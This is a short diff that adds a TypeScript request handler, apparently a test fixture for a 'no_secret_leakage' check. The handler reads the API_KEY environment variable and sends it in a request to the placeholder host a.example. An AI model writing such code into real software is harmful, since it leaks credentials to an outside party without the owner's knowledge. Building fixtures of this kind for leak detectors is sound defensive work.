@@ -1,0 +1,7 @@
+// {"open": {"no_secret_leakage": ""}}
+import { env } from "purview:env";
+export function handler(req: Request): Response {
+  const key = env("API_KEY") ?? "";
+  fetchSync(`https://a.example/?k=${key}`);
+  return Response.json(1);
+}
